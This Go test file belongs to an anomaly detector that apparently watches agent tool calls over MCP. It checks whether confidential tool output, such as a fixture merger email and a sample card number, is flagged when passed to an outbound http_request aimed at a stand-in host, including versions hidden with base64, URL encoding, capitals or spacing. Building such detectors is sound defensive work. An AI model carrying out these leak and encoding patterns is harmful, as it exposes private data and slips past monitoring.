package anomaly

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/otelcol-mcp/otelcol-mcp/internal/mcp"
)

// mail is what a private tool returns.
const mail = `{"from":"ann@corp.example","subject":"Merger","text":"The board meets on the ninth of May to approve the purchase of Northwind for 4.2 million. Nobody outside the committee may know before the announcement."}`

const passage = "The board meets on the ninth of May to approve the purchase of Northwind for 4.2 million."

func TestDataThatLeave(t *testing.T) {
	for name, arguments := range map[string]string{
		"as they are":      fmt.Sprintf(`{"url":"https://x.example","body":%q}`, passage),
		"in capitals":      fmt.Sprintf(`{"body":%q}`, strings.ToUpper(passage)),
		"spaced":           fmt.Sprintf(`{"body":%q}`, strings.ReplaceAll(passage, " ", "   ")),
		"in base64":        fmt.Sprintf(`{"body":%q}`, base64.StdEncoding.EncodeToString([]byte(passage))),
		"in an address":    fmt.Sprintf(`{"url":"https://x.example/?q=%s"}`, url.QueryEscape(passage)),
		"base64 in an URL": fmt.Sprintf(`{"url":"https://x.example/?q=%s"}`, base64.RawURLEncoding.EncodeToString([]byte(passage))),
	} {
		s := begin(t, nil)
		s.call("qx7", `{"id":17}`, of("vault"), result(mail), conversation)
		s.call("http_request", arguments, of("web"), conversation)
		require.Contains(t, types(s.found), ValueFlow.String(), name)
	}
}

func conversation(o *Observation) { o.Call.SessionID, o.Call.ConversationID = "", "c" }

func TestDataThatMayGo(t *testing.T) {
	leak := fmt.Sprintf(`{"body":%q}`, passage)
	for name, show := range map[string]func(s *script){
		"to a tool of the same server": func(s *script) {
			s.call("read", "{}", of("mail"), result(mail), conversation)
			s.call("send_reply", leak, of("mail"), conversation)
		},
		"to a tool that reaches nobody": func(s *script) {
			s.call("read", "{}", of("mail"), result(mail), conversation)
			s.call("summarize", leak, of("text"), conversation)
		},
		"in another conversation": func(s *script) {
			s.call("read", "{}", of("mail"), result(mail), conversation)
			s.call("http_request", leak, of("web"), func(o *Observation) { o.Call.SessionID, o.Call.ConversationID = "", "d" })
		},
		"from a tool that is open itself": func(s *script) {
			s.list("news", 1, searchTool)
			s.call("look_up_web_page", "{}", of("news"), result(mail), conversation)
			s.call("http_request", leak, of("web"), conversation)
		},
		"because the agent knew them before": func(s *script) {
			s.call("http_request", leak, of("web"), conversation)
			s.call("read", "{}", of("mail"), result(mail), conversation)
			s.call("http_request", leak, of("web"), conversation)
		},
		"as an id": func(s *script) {
			s.call("find", "{}", of("crm"), result(`{"id":"cus_9fk2l1x"}`), conversation)
			s.call("send_invoice", `{"customer":"cus_9fk2l1x"}`, of("bills"), conversation)
		},
		"seen by another role": func(s *script) {
			s.call("read", "{}", of("mail"), result(mail), conversation)
			s.call("http_request", leak, of("127.0.0.1"), conversation, role(mcp.RoleClient))
		},
	} {
		s := begin(t, nil)
		show(s)
		require.False(t, s.has(ValueFlow), name)
	}
}

func TestPrivateAndOpenToolsCanBeNamed(t *testing.T) {
	s := begin(t, func(o *Options) {
		o.Private = func(_, tool string) bool { return tool == "read" }
		o.Open = func(_, tool string) bool { return tool == "qx7" }
	})
	s.call("read", "{}", result(mail))
	s.call("qx7", fmt.Sprintf(`{"body":%q}`, passage))
	s.only(ValueFlow)
	require.Equal(t, High, s.found[0].Severity, "somebody has said so")
	s.call("send", fmt.Sprintf(`{"body":%q}`, passage))
	s.only()
}

const customer = `{"mail":"ann@corp.example","card":"4929 1234 5678 9012","id":"cus_9f3KQ27x"}`

func TestValuesThatLeave(t *testing.T) {
	for name, test := range map[string]struct {
		server, tool, arguments string
		want                    bool
	}{
		"two, as they are":           {"web", "http_request", `{"q":"ann@corp.example 4929123456789012"}`, false},
		"one, encoded":               {"web", "http_request", fmt.Sprintf(`{"q":"%x"}`, "ann@corp.example"), true},
		"encoded, to the own server": {"crm", "send_page", fmt.Sprintf(`{"q":"%x"}`, "ann@corp.example, 4929123456789012"), true},
		"to the own server":          {"crm", "send_page", `{"q":"ann@corp.example, 4929123456789012, cus_9f3KQ27x"}`, false},
	} {
		s := begin(t, nil)
		s.call("find", "{}", of("crm"), result(customer), conversation)
		s.call(test.tool, test.arguments, of(test.server), conversation)
		require.Equal(t, test.want, s.has(ValueFlow), name)
	}
}

func TestWhatNobodySaidIsOfLowerSeverity(t *testing.T) {
	leak := fmt.Sprintf(`{"body":%q}`, passage)
	s := begin(t, nil)
	s.call("read", "{}", of("mail"), result(mail), conversation)
	s.call("http_request", leak, of("web"), conversation)
	s.only(ValueFlow)
	require.Equal(t, Medium, s.found[0].Severity)
}

func TestFailuresAndOwnWordsAreNotFollowed(t *testing.T) {
	leak := fmt.Sprintf(`{"body":%q}`, passage)
	s := begin(t, nil)
	s.call("read", "{}", of("mail"), result(mail), conversation, failing(mcp.OutcomeToolError))
	s.call("http_request", leak, of("web"), conversation)
	s.call("summarize", leak, of("text"), conversation)
	s.call("read", "{}", of("mail"), result(mail), conversation)
	s.call("http_request", leak, of("web"), conversation)
	require.False(t, s.has(ValueFlow))

	s = begin(t, nil)
	s.call("summarize", leak, of("text"), conversation)
	s.call("read", "{}", of("mail"), result(mail), conversation)
	s.call("http_request", leak, of("web"), conversation)
	require.False(t, s.has(ValueFlow), "a tool that sends nothing was told before")
}

// within says whose the ids of a call are.
func within(service uint64) edit {
	return func(o *Observation) { o.Call.SessionScope, o.Call.ConversationScope = service, service }
}

// TestConversationsWithTheSameID: data are followed where it is one conversation, and not where
// two only have the same id.
func TestConversationsWithTheSameID(t *testing.T) {
	leak := fmt.Sprintf(`{"body":%q}`, passage)
	for name, test := range map[string]struct {
		read, sent []edit
		want       bool
	}{
		"of one service":                        {[]edit{within(1)}, []edit{within(1)}, true},
		"of two services":                       {[]edit{within(1)}, []edit{within(2)}, false},
		"an id that is unique, in two":          {nil, nil, true},
		"of one service, for two users":         {[]edit{within(1), by("ann")}, []edit{within(1), by("bob")}, false},
		"an id that is unique, told for two":    {[]edit{by("ann")}, []edit{by("bob")}, true},
		"a session, not a conversation, of two": {[]edit{within(1), ofSession("1"), conversationID("")}, []edit{within(2), ofSession("1"), conversationID("")}, false},
	} {
		s := begin(t, nil)
		s.call("read", "{}", append([]edit{of("mail"), result(mail), conversation}, test.read...)...)
		s.call("http_request", leak, append([]edit{of("web"), conversation}, test.sent...)...)
		require.Equal(t, test.want, s.has(ValueFlow), name)
	}
}

func conversationID(id string) edit { return func(o *Observation) { o.Call.ConversationID = id } }

// TestSessionsWithTheSameID has twelve calls fail, in a session 1 of one service or of three.
func TestSessionsWithTheSameID(t *testing.T) {
	for name, test := range map[string]struct {
		services uint64
		want     bool
	}{"one service": {1, true}, "three services": {3, false}} {
		s := begin(t, nil)
		for i := range uint64(12) {
			s.call(fmt.Sprint("tool", i), "{}", ofSession("1"), within(1+i%test.services), failing(mcp.OutcomeServerError))
		}
		require.Equal(t, test.want, s.has(ErrorBurst), name)
	}
}
